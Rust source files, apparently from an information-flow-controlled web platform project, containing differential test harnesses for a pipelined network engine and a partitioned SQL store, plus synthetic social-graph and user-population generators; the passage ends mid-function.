/// Build the HTTP request for one op. `Request::get` does not split a
/// query string off the path, so `query_raw` is set explicitly.
fn build_request(c: usize, op: &Op) -> Request {
    let (path, query) = match op {
        Op::Put { id, v } => (format!("/app/nd{c}/app{c}/put"), format!("id={id}&v={v}")),
        Op::Get { id } => (format!("/app/nd{c}/app{c}/get"), format!("id={id}")),
        Op::Sum => (format!("/app/nd{c}/app{c}/sum"), String::new()),
        Op::Del { id } => (format!("/app/nd{c}/app{c}/del"), format!("id={id}")),
        Op::Boom => (format!("/app/nd{c}/app{c}/boom"), String::new()),
        Op::Registry => ("/registry".to_string(), String::new()),
        Op::Missing => ("/definitely/nosuch".to_string(), String::new()),
    };
    let mut req = Request::get(&path);
    req.query_raw = query;
    req
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;

fn fold(h: &mut u64, bytes: &[u8]) {
    for &b in bytes {
        *h ^= u64::from(b);
        *h = h.wrapping_mul(FNV_PRIME);
    }
}

/// Fold one response into a client digest: status and body, nothing that
/// could encode queue position or timing.
fn fold_response(h: &mut u64, i: usize, resp: &Response) {
    fold(h, &(i as u64).to_le_bytes());
    fold(h, &resp.status.0.to_le_bytes());
    fold(h, &resp.body);
    fold(h, b"|");
}

/// Events the pipeline emits about its own queues — excluded from
/// cross-engine ledger comparison because the reference engine has no
/// queues to report on.
fn is_queue_metadata(kind: &EventKind) -> bool {
    matches!(
        kind,
        EventKind::QueueAdmit { .. }
            | EventKind::QueueShed { .. }
            | EventKind::WorkerOccupancy { .. }
    )
}

fn peer(c: usize) -> SocketAddr {
    format!("127.0.0.1:{}", 40_000 + c).parse().expect("static addr")
}

/// One pass over a client's schedule: per-response digest fold plus a
/// human-readable status tally.
fn drive_client(engine: &dyn Serve, c: usize, ops: &[Op]) -> (u64, BTreeMap<u16, u64>) {
    let mut h = FNV_OFFSET;
    let mut counts = BTreeMap::new();
    for (i, op) in ops.iter().enumerate() {
        let resp = engine.serve(build_request(c, op), peer(c));
        fold_response(&mut h, i, &resp);
        *counts.entry(resp.status.0).or_insert(0) += 1;
    }
    (h, counts)
}

/// Drive one engine through the spec's schedule. `concurrent` selects
/// real OS threads (one per client) vs. a serial replay of the same
/// per-client sequences.
fn run_arm(spec: &NetSpec, pipelined: bool, concurrent: bool) -> NetRun {
    assert!(spec.clients >= 1, "need at least one client");
    let ledger = Arc::new(Ledger::new());
    let _obs_guard = w5_obs::scoped(Arc::clone(&ledger));
    let recorder = crate::lockgate::recorder(None);
    let _lock_guard = lockdep::scoped(Arc::clone(&recorder));

    let platform = Platform::new_default("netdiff");
    setup(&platform, spec);
    let gateway: Arc<dyn Handler> = Arc::new(Gateway::new(Arc::clone(&platform)));
    // Pipeline workers are spawned *inside* the scoped ledger/recorder so
    // handler activity on worker threads records into this arm.
    let pipeline = if pipelined {
        Some(Pipeline::start(
            PipelineConfig {
                workers: 4,
                shards: 2,
                chaos: None,
                ..PipelineConfig::default()
            },
            Arc::clone(&gateway),
            Arc::new(ClassifyOnly),
        ))
    } else {
        None
    };
    let engine: Arc<dyn Serve> = match &pipeline {
        Some(p) => Arc::clone(p) as Arc<dyn Serve>,
        None => Arc::new(InlineServe::new(gateway)),
    };

    let op_lists: Vec<Vec<Op>> = (0..spec.clients).map(|c| gen_ops(spec, c)).collect();
    let injectors: Vec<Arc<w5_chaos::Injector>> =
        (0..spec.clients).map(|c| injector_for(spec, c)).collect();

    let mut statuses: BTreeMap<u16, u64> = BTreeMap::new();
    let digests: Vec<u64> = if concurrent {
        let handoff = w5_obs::current_scoped().expect("scoped ledger installed above");
        let lock_handoff = lockdep::current_scoped().expect("scoped recorder installed above");
        let results: Vec<(u64, BTreeMap<u16, u64>)> = thread::scope(|s| {
            let handles: Vec<_> = op_lists
                .iter()
                .zip(injectors.iter())
                .enumerate()
                .map(|(c, (ops, inj))| {
                    let handoff = Arc::clone(&handoff);
                    let lock_handoff = Arc::clone(&lock_handoff);
                    let inj = Arc::clone(inj);
                    let engine = Arc::clone(&engine);
                    s.spawn(move || {
                        let _obs = w5_obs::scoped(handoff);
                        let _lockdep = lockdep::scoped(lock_handoff);
                        // The ambient injector is captured per job at
                        // submit and re-installed on the worker, so the
                        // handler-stage fault stream follows the client.
                        let _chaos = w5_chaos::with_injector(Arc::clone(&inj));
                        drive_client(engine.as_ref(), c, ops)
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("client thread panicked"))
                .collect()
        });
        for (_, counts) in &results {
            for (status, n) in counts {
                *statuses.entry(*status).or_insert(0) += n;
            }
        }
        results.into_iter().map(|(d, _)| d).collect()
    } else {
        op_lists
            .iter()
            .zip(injectors.iter())
            .enumerate()
            .map(|(c, (ops, inj))| {
                let _chaos = w5_chaos::with_injector(Arc::clone(inj));
                let (digest, counts) = drive_client(engine.as_ref(), c, ops);
                for (status, n) in counts {
                    *statuses.entry(status).or_insert(0) += n;
                }
                digest
            })
            .collect()
    };

    if let Some(p) = &pipeline {
        p.stop();
        let snap = p.stats.snapshot();
        assert_eq!(snap.shed, 0, "oracle arms must never shed (queues sized for the load)");
        assert_eq!(snap.quota_denied, 0, "ClassifyOnly never charges");
    }

    let mut faults: Vec<String> =
        platform.fault_reports().iter().map(|f| f.to_log_line()).collect();
    faults.sort();

    recorder.note("harness", "netdiff");
    recorder.note("engine", if pipelined { "pipeline" } else { "reference" });
    crate::lockgate::enforce(&recorder, "netdiff");

    NetRun {
        outcome: NetOutcome { digests, statuses, faults },
        ledger_digest: ledger.digest_where(|k| !is_queue_metadata(k)),
    }
}

/// Reference (seed thread-per-connection semantics), serial replay.
pub fn run_reference_serial(spec: &NetSpec) -> NetRun {
    run_arm(spec, false, false)
}

/// Staged pipeline, serial replay.
pub fn run_pipelined_serial(spec: &NetSpec) -> NetRun {
    run_arm(spec, true, false)
}

/// Reference engine under real client threads.
pub fn run_reference_concurrent(spec: &NetSpec) -> NetRun {
    run_arm(spec, false, true)
}

/// Staged pipeline under real client threads — queues, DRR rotation and
/// worker hand-offs all live.
pub fn run_pipelined_concurrent(spec: &NetSpec) -> NetRun {
    run_arm(spec, true, true)
}

/// The full four-arm differential check, used by tests and CI: pipelined
/// concurrent ≡ reference concurrent ≡ reference serial ≡ pipelined
/// serial on the whole observable surface, with serial event streams
/// (queue metadata aside) bit-identical across engines and stable under
/// replay. Panics with a labeled diff on the first mismatch.
pub fn assert_net_differential(spec: &NetSpec) {
    let ref_serial = run_reference_serial(spec);
    let pipe_serial = run_pipelined_serial(spec);
    assert_eq!(
        ref_serial.outcome, pipe_serial.outcome,
        "serial replay diverged between reference and pipelined engines"
    );
    // Queue metadata aside, the pipeline must drive the platform through
    // the same event stream the reference does.
    assert_eq!(
        ref_serial.ledger_digest, pipe_serial.ledger_digest,
        "serial ledger streams diverged between engines (beyond queue metadata)"
    );
    // Replay determinism: a second serial run of each engine must emit a
    // bit-identical private event stream.
    let ref_again = run_reference_serial(spec);
    assert_eq!(
        ref_serial.ledger_digest, ref_again.ledger_digest,
        "reference serial ledger digest is not replay-deterministic"
    );
    let pipe_again = run_pipelined_serial(spec);
    assert_eq!(
        pipe_serial.ledger_digest, pipe_again.ledger_digest,
        "pipelined serial ledger digest is not replay-deterministic"
    );
    let pipe_conc = run_pipelined_concurrent(spec);
    assert_eq!(
        ref_serial.outcome, pipe_conc.outcome,
        "pipelined engine under threads diverged from the serial oracle"
    );
    let ref_conc = run_reference_concurrent(spec);
    assert_eq!(
        ref_serial.outcome, ref_conc.outcome,
        "reference engine under threads diverged from its own serial replay \
         (schedule is not interleaving-invariant — harness bug)"
    );
}

/// Storm verdict: the pipeline's own fault sites armed, overload forced,
/// and every degraded answer still well-formed.
#[derive(Clone, Debug)]
pub struct StormReport {
    /// Final pipeline counters.
    pub stats: PipelineSnapshot,
    /// Faults the injector actually fired.
    pub injected: u64,
    /// Responses observed, by status.
    pub statuses: BTreeMap<u16, u64>,
}

/// Drive the pipelined engine with `net.queue_full` / `net.slow_worker`
/// armed through [`PipelineConfig::chaos`] and a deliberately tiny queue,
/// asserting graceful degradation: every response carries a known status,
/// and every 503 carries a positive `Retry-After` and a labeled
/// fault-report body. Panics on the first malformed answer.
pub fn run_pipeline_storm(spec: &NetSpec) -> StormReport {
    let injector = w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(spec.seed)
            .with(w5_chaos::Site::NetQueueFull, 0.15)
            .with(w5_chaos::Site::NetSlowWorker, 0.10),
    );
    let platform = Platform::new_default("netdiff-storm");
    setup(&platform, spec);
    let gateway: Arc<dyn Handler> = Arc::new(Gateway::new(Arc::clone(&platform)));
    let pipeline = Pipeline::start(
        PipelineConfig {
            workers: 2,
            shards: 1,
            queue_depth: 2,
            chaos: Some(Arc::clone(&injector)),
            ..PipelineConfig::default()
        },
        gateway,
        Arc::new(ClassifyOnly),
    );

    let op_lists: Vec<Vec<Op>> = (0..spec.clients).map(|c| gen_ops(spec, c)).collect();
    let statuses: BTreeMap<u16, u64> = thread::scope(|s| {
        let handles: Vec<_> = op_lists
            .iter()
            .enumerate()
            .map(|(c, ops)| {
                let engine = Arc::clone(&pipeline);
                s.spawn(move || {
                    let mut counts = BTreeMap::new();
                    for op in ops {
                        let resp = engine.serve(build_request(c, op), peer(c));
                        let status = resp.status.0;
                        assert!(
                            matches!(status, 200 | 400 | 404 | 429 | 500 | 503),
                            "storm produced unexpected status {status}"
                        );
                        if status == 503 {
                            let retry: u64 = resp
                                .header("retry-after")
                                .expect("503 must carry Retry-After")
                                .parse()
                                .expect("Retry-After must be integral seconds");
                            assert!(retry >= 1, "Retry-After must be positive");
                            let body = String::from_utf8_lossy(&resp.body);
                            assert!(
                                body.contains("fault app=net/pipeline"),
                                "503 body must be a labeled fault report, got: {body}"
                            );
                        }
                        *counts.entry(status).or_insert(0) += 1;
                    }
                    counts
                })
            })
            .collect();
        let mut total: BTreeMap<u16, u64> = BTreeMap::new();
        for h in handles {
            for (status, n) in h.join().expect("storm client panicked") {
                *total.entry(status).or_insert(0) += n;
            }
        }
        total
    });
    pipeline.stop();
    StormReport {
        stats: pipeline.stats.snapshot(),
        injected: injector.report().total_injected(),
        statuses,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn four_arms_agree_on_default_spec() {
        assert_net_differential(&NetSpec {
            seed: 2007,
            clients: 4,
            requests_per_client: 30,
            fault_rate: 0.05,
        });
    }

    #[test]
    fn calm_run_agrees_without_faults() {
        let spec = NetSpec { seed: 11, clients: 2, requests_per_client: 25, fault_rate: 0.0 };
        assert_net_differential(&spec);
    }

    #[test]
    fn workload_actually_exercises_the_stack() {
        let spec = NetSpec::new(20070824);
        let run = run_pipelined_serial(&spec);
        assert!(run.outcome.statuses.contains_key(&200), "some requests must succeed");
        assert!(run.outcome.statuses.contains_key(&404), "missing route must 404");
        assert!(run.outcome.statuses.contains_key(&500), "boom must crash to 500");
        assert!(
            run.outcome.faults.iter().any(|f| f.contains("kind=crash")),
            "crash faults must be retained for developers"
        );
        assert!(
            run.outcome.faults.iter().any(|f| f.contains("kind=infrastructure")),
            "sql chaos must surface as infrastructure faults"
        );
    }

    #[test]
    fn storm_degrades_gracefully() {
        let report = run_pipeline_storm(&NetSpec {
            seed: 4242,
            clients: 4,
            requests_per_client: 40,
            fault_rate: 0.0,
        });
        assert!(report.injected > 0, "storm must fire");
        assert!(report.stats.shed > 0, "forced queue-full faults must shed");
        assert!(report.statuses.contains_key(&503), "sheds must surface as 503s");
        assert!(report.statuses.contains_key(&200), "healthy requests must still succeed");
    }
}
