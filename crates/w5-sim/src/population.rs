//! Build a ready-to-measure world on a platform instance.

use crate::socialgraph::{barabasi_albert, SocialGraph};
use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use w5_platform::{Account, GrantScope, Platform};

/// Population parameters.
#[derive(Clone, Copy, Debug)]
pub struct PopulationConfig {
    /// Number of users.
    pub users: usize,
    /// Preferential-attachment edges per user.
    pub friends_m: usize,
    /// Photos uploaded per user.
    pub photos_per_user: usize,
    /// Blog posts per user.
    pub posts_per_user: usize,
    /// Grant `friends-only` for every app to every user (the common case).
    pub grant_friends_only: bool,
    /// RNG seed.
    pub seed: u64,
}

impl Default for PopulationConfig {
    fn default() -> Self {
        PopulationConfig {
            users: 20,
            friends_m: 2,
            photos_per_user: 2,
            posts_per_user: 2,
            grant_friends_only: true,
            seed: 42,
        }
    }
}

/// The built world.
pub struct World {
    /// The platform (apps installed, users registered).
    pub platform: Arc<Platform>,
    /// Accounts in index order (`user0`, `user1`, …).
    pub accounts: Vec<Account>,
    /// The friendship graph used.
    pub graph: SocialGraph,
}

/// Register users, wire friendships (both directions), delegate writes,
/// grant declassifiers, and upload photos/posts through the real apps.
pub fn build_population(platform: Arc<Platform>, config: PopulationConfig) -> World {
    let mut rng = StdRng::seed_from_u64(config.seed);
    w5_apps::install_all(&platform);

    let accounts: Vec<Account> = (0..config.users)
        .map(|i| {
            platform
                .accounts
                .register(&format!("user{i}"), "pw")
                .expect("register")
        })
        .collect();

    let apps = ["devA/photos", "devB/blog", "devC/social", "devD/recommender", "devD/dating"];
    for account in &accounts {
        for app in apps {
            platform.policies.enroll(account.id, app);
            platform.policies.delegate_write(account.id, app);
            if config.grant_friends_only {
                platform
                    .policies
                    .grant_declassifier(account.id, "friends-only", GrantScope::App(app.into()));
            }
        }
    }

    let graph = barabasi_albert(config.users, config.friends_m.max(1), config.seed);
    for &(a, b) in &graph.edges {
        platform.add_friend(&accounts[a].username, &accounts[b].username);
        platform.add_friend(&accounts[b].username, &accounts[a].username);
    }

    // Content, through the real application code paths.
    let topics = ["jazz", "rust", "hiking", "cooking", "chess"];
    for (i, account) in accounts.iter().enumerate() {
        for p in 0..config.photos_per_user {
            let req = Platform::make_request(
                "POST",
                "upload",
                &[("name", &format!("photo{p}")), ("w", "8"), ("h", "8")],
                Some(account),
                Bytes::new(),
            );
            let r = platform.invoke(Some(account), "devA/photos", req);
            assert_eq!(r.status, 200, "upload failed for user{i}: {:?}", r.body);
        }
        for p in 0..config.posts_per_user {
            let topic = topics[rng.gen_range(0..topics.len())];
            let req = Platform::make_request(
                "POST",
                "post",
                &[
                    ("title", &format!("post{p} about {topic}")),
                    ("body", &format!("user{i} writes at length about {topic}")),
                ],
                Some(account),
                Bytes::new(),
            );
            let r = platform.invoke(Some(account), "devB/blog", req);
            assert_eq!(r.status, 200, "post failed for user{i}");
        }
    }

    World { platform, accounts, graph }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_a_consistent_world() {
        let w = build_population(Platform::new_default("sim"), PopulationConfig::default());
        assert_eq!(w.accounts.len(), 20);
        assert_eq!(w.platform.accounts.user_count(), 20);
        // Content exists: photos on the fs, posts in the db.
        assert!(w.platform.fs.file_count() >= 40, "{}", w.platform.fs.file_count());
        assert!(w.platform.db.total_rows() >= 40 + w.graph.edges.len() * 2);
        // A friend can view a friend's photo end to end.
        let (a, b) = w.graph.edges[0];
        let req = Platform::make_request(
            "GET",
            "view",
            &[("user", &w.accounts[a].username), ("name", "photo0")],
            Some(&w.accounts[b]),
            Bytes::new(),
        );
        let r = w.platform.invoke(Some(&w.accounts[b]), "devA/photos", req);
        assert_eq!(r.status, 200);
    }
}
