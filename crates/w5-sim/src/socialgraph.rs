//! Synthetic friendship graphs.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// An undirected edge list over node indices `0..n`.
#[derive(Clone, Debug)]
pub struct SocialGraph {
    /// Number of nodes.
    pub n: usize,
    /// Undirected edges (a < b).
    pub edges: Vec<(usize, usize)>,
}

impl SocialGraph {
    /// Per-node degree.
    pub fn degrees(&self) -> Vec<usize> {
        let mut d = vec![0usize; self.n];
        for &(a, b) in &self.edges {
            d[a] += 1;
            d[b] += 1;
        }
        d
    }

    /// Maximum degree.
    pub fn max_degree(&self) -> usize {
        self.degrees().into_iter().max().unwrap_or(0)
    }

    /// Average degree.
    pub fn avg_degree(&self) -> f64 {
        if self.n == 0 {
            0.0
        } else {
            2.0 * self.edges.len() as f64 / self.n as f64
        }
    }
}

/// Barabási–Albert preferential attachment: each new node attaches `m`
/// edges, preferring high-degree targets — yields the heavy-tailed degree
/// distribution of real social networks.
pub fn barabasi_albert(n: usize, m: usize, seed: u64) -> SocialGraph {
    assert!(m >= 1, "m must be at least 1");
    let mut rng = StdRng::seed_from_u64(seed);
    let mut edges = Vec::new();
    // Repeated-nodes list: picking uniformly from it IS preferential
    // attachment.
    let mut targets: Vec<usize> = Vec::new();
    let seed_nodes = (m + 1).min(n);
    // Start with a small clique.
    for a in 0..seed_nodes {
        for b in (a + 1)..seed_nodes {
            edges.push((a, b));
            targets.push(a);
            targets.push(b);
        }
    }
    for v in seed_nodes..n {
        let mut chosen = std::collections::BTreeSet::new();
        let mut guard = 0;
        while chosen.len() < m && guard < 100 * m {
            let t = targets[rng.gen_range(0..targets.len())];
            if t != v {
                chosen.insert(t);
            }
            guard += 1;
        }
        for &t in &chosen {
            edges.push((t.min(v), t.max(v)));
            targets.push(t);
            targets.push(v);
        }
    }
    SocialGraph { n, edges }
}

/// Watts–Strogatz small world: ring lattice with `k` neighbours per side,
/// each edge rewired with probability `beta`.
pub fn watts_strogatz(n: usize, k: usize, beta: f64, seed: u64) -> SocialGraph {
    assert!(k >= 1 && 2 * k < n, "need 1 <= k and 2k < n");
    let mut rng = StdRng::seed_from_u64(seed);
    let mut edges = Vec::new();
    for a in 0..n {
        for j in 1..=k {
            let mut b = (a + j) % n;
            if rng.gen_bool(beta) {
                // Rewire to a uniform non-self target.
                loop {
                    let cand = rng.gen_range(0..n);
                    if cand != a {
                        b = cand;
                        break;
                    }
                }
            }
            let (lo, hi) = (a.min(b), a.max(b));
            if lo != hi {
                edges.push((lo, hi));
            }
        }
    }
    edges.sort_unstable();
    edges.dedup();
    SocialGraph { n, edges }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ba_shape() {
        let g = barabasi_albert(200, 3, 42);
        assert_eq!(g.n, 200);
        // Average degree ≈ 2m.
        assert!((g.avg_degree() - 6.0).abs() < 1.5, "{}", g.avg_degree());
        // Heavy tail: the max degree is far above the average.
        assert!(g.max_degree() as f64 > 3.0 * g.avg_degree(), "{}", g.max_degree());
    }

    #[test]
    fn ba_deterministic_per_seed() {
        let a = barabasi_albert(100, 2, 7).edges;
        let b = barabasi_albert(100, 2, 7).edges;
        let c = barabasi_albert(100, 2, 8).edges;
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn ws_shape() {
        let g = watts_strogatz(100, 3, 0.1, 1);
        // Close to the lattice's n*k edges (rewiring can merge a few).
        assert!(g.edges.len() > 280 && g.edges.len() <= 300, "{}", g.edges.len());
        assert!((g.avg_degree() - 6.0).abs() < 0.6);
    }

    #[test]
    fn ws_beta_zero_is_pure_lattice() {
        let g = watts_strogatz(10, 2, 0.0, 1);
        assert_eq!(g.edges.len(), 20);
        let d = g.degrees();
        assert!(d.iter().all(|&x| x == 4), "{d:?}");
    }

    #[test]
    fn no_self_loops() {
        for g in [barabasi_albert(50, 2, 3), watts_strogatz(50, 2, 0.5, 3)] {
            assert!(g.edges.iter().all(|&(a, b)| a != b));
            assert!(g.edges.iter().all(|&(a, b)| a < b));
        }
    }
}
