//! Differential storage oracle for the label-partitioned SQL store.
//!
//! The partitioned executor ([`w5_store::PartitionedExec`]) claims to
//! preserve, observable by observable, the behavior of the seed engine's
//! per-row scan ([`w5_store::ReferenceExec`]) — while skipping unreadable
//! partitions wholesale and serving indexed `WHERE` clauses from sorted
//! runs. This module checks that claim the same way PR 7's kernel oracle
//! does: replay the *same seeded statement schedule* against both
//! executors — under real OS-thread interleavings and serially — and
//! compare everything a SQL client could see: result rows, resolved row
//! labels, combined output labels, affected counts, and error verdicts.
//!
//! What is deliberately **excluded** from the comparison is
//! `QueryOutput::scanned`: the two executors charge different costs by
//! design (that is the whole point of partition pruning). The oracle
//! instead asserts the direction — the partitioned engine must never
//! charge *more* than the reference for the same schedule.
//!
//! # Why the schedules are interleaving-invariant
//!
//! * **Ownership** — thread `t` touches only its own table `t{t}` and its
//!   own subjects, so every statement verdict is a pure function of one
//!   thread's deterministic op sequence.
//! * **Per-thread chaos** — each thread carries its own
//!   [`w5_chaos::Injector`] for `Site::SqlQuery`, so the abort stream a
//!   sequence experiences depends only on `(seed, thread)` — identical
//!   between the concurrent run and the serial replay.
//! * **Pre-created tags** — all tags are created in single-threaded
//!   setup on a fresh [`w5_difc::TagRegistry`] per arm, so raw tag ids
//!   align across arms. Digests always fold *resolved* labels (sorted
//!   raw tags), never interned pair ids, because the intern table is
//!   process-global and allocation order differs between arms.
//!
//! Serial replays additionally expose the run's private
//! [`w5_obs::Ledger::digest`]. Unlike the kernel oracle it is *not*
//! comparable across executors (they perform different numbers of flow
//! checks by design); it is compared across *repeated serial runs of the
//! same executor*, pinning replay determinism.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::thread;
use w5_difc::{CapSet, Label, LabelPair, Tag, TagKind, TagRegistry};
use w5_obs::Ledger;
use w5_sync::lockdep;
use w5_store::{Database, QueryCost, QueryError, QueryMode, QueryOutput, Subject};

/// Seed rows inserted per table before the op streams start.
const SEED_ROWS: usize = 12;
/// Insert/point ids are drawn from this domain, small enough that point
/// lookups, updates and deletes regularly collide with live rows.
const ID_DOMAIN: i64 = 48;

/// One differential run: a schedule seed, a thread count, a length, and a
/// storm rate for the `SqlQuery` fault site.
#[derive(Clone, Copy, Debug)]
pub struct StoreSpec {
    /// Seeds every thread's op stream and fault plan.
    pub seed: u64,
    /// Worker threads; each owns one table.
    pub threads: usize,
    /// Statements each thread executes.
    pub ops_per_thread: usize,
    /// Injection probability for `Site::SqlQuery` (0.0 = calm).
    pub fault_rate: f64,
}

impl StoreSpec {
    /// A moderate default: 4 threads, 300 statements each, a light storm.
    pub fn new(seed: u64) -> StoreSpec {
        StoreSpec { seed, threads: 4, ops_per_thread: 300, fault_rate: 0.05 }
    }
}

/// The observable outcome of one run. Two arms replaying the same
/// [`StoreSpec`] must compare equal, whatever the executor or
/// interleaving.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct StoreOutcome {
    /// Per-thread FNV-1a digests folded over every statement outcome
    /// (rows, resolved labels, affected counts, error verdicts — never
    /// `scanned`).
    pub digests: Vec<u64>,
    /// Final rendered rows of every table, sorted (a trusted full dump).
    pub tables: BTreeMap<String, Vec<String>>,
    /// Per-thread fault-injection tallies, in thread order.
    pub faults: Vec<w5_chaos::ChaosReport>,
}

/// One arm's result: the comparable outcome plus two executor-specific
/// measurements that are checked directionally, not for equality.
#[derive(Clone, Debug)]
pub struct StoreRun {
    /// The interleaving-invariant observable surface.
    pub outcome: StoreOutcome,
    /// Total cost units charged across all successful statements.
    pub scanned: u64,
    /// Private obs-ledger digest — deterministic for serial runs of one
    /// executor, meaningless to compare across executors.
    pub ledger_digest: u64,
}

/// One statement of a thread's schedule.
#[derive(Clone, Debug)]
enum Op {
    /// Owner INSERT at one of the three label kinds (public / secret /
    /// guarded-integrity).
    Insert { kind: u8, id: i64, v: i64 },
    /// Indexed-column point lookup, as owner or stranger.
    PointSelect { stranger: bool, id: i64 },
    /// Range scan over the (sometimes) indexed `v` column.
    RangeSelect { stranger: bool, lo: i64, span: i64 },
    /// Full-table aggregates.
    Agg { stranger: bool },
    /// ORDER BY + LIMIT over a non-key column (exercises tie-breaking).
    OrderLimit { stranger: bool, limit: usize },
    /// Owner point update of the unindexed payload column.
    Update { id: i64, v: i64 },
    /// Owner update that rewrites the indexed key column (forces a
    /// sorted-run rebuild mid-schedule).
    Shift { id: i64 },
    /// Stranger blanket update: write-protected rows it can *read* but
    /// not write make this surface `WriteDenied` deterministically.
    StrangerUpdate { v: i64 },
    /// Owner point delete (empties partitions over time).
    Delete { id: i64 },
    /// Stranger scan in `Naive` mode — the covert-channel baseline path.
    NaiveScan,
    /// `CREATE INDEX` interleaved with DML (idempotent; chaos can abort
    /// it like any other statement).
    CreateIndex { col: u8 },
}

fn gen_ops(spec: &StoreSpec, t: usize) -> Vec<Op> {
    let mut rng = StdRng::seed_from_u64(
        spec.seed ^ (t as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15),
    );
    (0..spec.ops_per_thread)
        .map(|_| match rng.gen_range(0..100u32) {
            0..=24 => Op::Insert {
                kind: rng.gen_range(0..3u32) as u8,
                id: rng.gen_range(0..ID_DOMAIN),
                v: rng.gen_range(0..1000),
            },
            25..=39 => Op::PointSelect {
                stranger: rng.gen_range(0..2u32) == 0,
                id: rng.gen_range(0..ID_DOMAIN),
            },
            40..=51 => Op::RangeSelect {
                stranger: rng.gen_range(0..2u32) == 0,
                lo: rng.gen_range(0..900),
                span: rng.gen_range(1..200),
            },
            52..=59 => Op::Agg { stranger: rng.gen_range(0..2u32) == 0 },
            60..=67 => Op::OrderLimit {
                stranger: rng.gen_range(0..2u32) == 0,
                limit: rng.gen_range(1..8u32) as usize,
            },
            68..=77 => Op::Update { id: rng.gen_range(0..ID_DOMAIN), v: rng.gen_range(0..1000) },
            78..=82 => Op::Shift { id: rng.gen_range(0..ID_DOMAIN) },
            83..=86 => Op::StrangerUpdate { v: rng.gen_range(0..1000) },
            87..=93 => Op::Delete { id: rng.gen_range(0..ID_DOMAIN) },
            94..=96 => Op::NaiveScan,
            _ => Op::CreateIndex { col: rng.gen_range(0..2u32) as u8 },
        })
        .collect()
}

fn injector_for(spec: &StoreSpec, t: usize) -> Arc<w5_chaos::Injector> {
    w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(spec.seed ^ (t as u64 + 1).wrapping_mul(0xD6E8_FEB8_6659_FD93))
            .with(w5_chaos::Site::SqlQuery, spec.fault_rate),
    )
}

/// One thread's working set: its table and the two subjects that drive it.
struct ThreadCtx {
    table: String,
    /// Owns the thread's tags: reads its secret rows, writes its
    /// write-protected rows.
    owner: Subject,
    /// Public labels, no capabilities: secret rows are invisible,
    /// guarded rows are readable but unwritable.
    stranger: Subject,
    /// `S={e_t}, I={w_t}` — invisible to the stranger.
    secret: LabelPair,
    /// `S={}, I={w_t}` — stranger-visible, owner-only writable.
    guarded: LabelPair,
}

impl ThreadCtx {
    fn insert_label(&self, kind: u8) -> LabelPair {
        match kind % 3 {
            0 => LabelPair::public(),
            1 => self.secret.clone(),
            _ => self.guarded.clone(),
        }
    }
}

/// Identical single-threaded setup for every arm: per-thread tags on a
/// fresh registry (so raw tag ids align), one table per thread with a
/// deterministic seed population, and an `id` index on even threads so
/// the schedule starts with a mix of indexed and unindexed tables.
fn setup(db: &Database, spec: &StoreSpec) -> Vec<ThreadCtx> {
    let reg = Arc::new(TagRegistry::new());
    (0..spec.threads)
        .map(|t| {
            let (e, mut caps) = reg.create_tag(TagKind::ReadProtect, &format!("store:r{t}"));
            let (w, wc) = reg.create_tag(TagKind::WriteProtect, &format!("store:w{t}"));
            caps.extend(&wc);
            let ctx = ThreadCtx {
                table: format!("t{t}"),
                owner: Subject::new(
                    LabelPair::new(Label::empty(), Label::singleton(w)),
                    reg.effective(&caps),
                ),
                stranger: Subject::new(LabelPair::public(), reg.effective(&CapSet::empty())),
                secret: LabelPair::new(Label::singleton(e), Label::singleton(w)),
                guarded: LabelPair::new(Label::empty(), Label::singleton(w)),
            };
            db.execute(
                &ctx.owner,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                &LabelPair::public(),
                &format!("CREATE TABLE {} (id INTEGER, v INTEGER, s TEXT)", ctx.table),
            )
            .expect("setup: create table");
            for i in 0..SEED_ROWS {
                let labels = ctx.insert_label(i as u8);
                db.execute(
                    &ctx.owner,
                    QueryMode::Filtered,
                    QueryCost::unlimited(),
                    &labels,
                    &format!(
                        "INSERT INTO {} VALUES ({}, {}, 'seed{i}')",
                        ctx.table,
                        i as i64 % ID_DOMAIN,
                        (i as i64) * 37 % 1000,
                    ),
                )
                .expect("setup: seed row");
            }
            if t % 2 == 0 {
                db.create_index(&ctx.table, "id").expect("setup: index");
            }
            ctx
        })
        .collect()
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;

fn fold(h: &mut u64, bytes: &[u8]) {
    for &b in bytes {
        *h ^= u64::from(b);
        *h = h.wrapping_mul(FNV_PRIME);
    }
}

/// Resolved-label signature: sorted raw tags, arm-stable because tags are
/// allocated in identical order on each arm's fresh registry.
fn label_sig(l: &LabelPair) -> String {
    let mut s: Vec<u64> = l.secrecy.iter().map(Tag::raw).collect();
    s.sort_unstable();
    let mut i: Vec<u64> = l.integrity.iter().map(Tag::raw).collect();
    i.sort_unstable();
    format!("{s:?}/{i:?}")
}

fn err_code(e: &QueryError) -> u8 {
    match e {
        QueryError::Sql(_) => 0,
        QueryError::NoSuchTable(_) => 1,
        QueryError::NoSuchColumn(_) => 2,
        QueryError::TypeMismatch { .. } => 3,
        QueryError::WriteDenied => 4,
        QueryError::BudgetExhausted => 5,
        QueryError::Eval(_) => 6,
        QueryError::TableExists(_) => 7,
        QueryError::Aborted => 8,
    }
}

/// Fold one statement outcome into a thread digest. Everything a client
/// can see goes in — except `scanned`, which is executor-dependent by
/// design and checked directionally instead.
fn fold_result(h: &mut u64, i: usize, r: &Result<QueryOutput, QueryError>) {
    fold(h, &(i as u64).to_le_bytes());
    match r {
        Ok(out) => {
            fold(h, b"ok");
            fold(h, &(out.affected as u64).to_le_bytes());
            fold(h, label_sig(&out.labels).as_bytes());
            for row in &out.rows {
                for v in &row.values {
                    fold(h, format!("{v:?}").as_bytes());
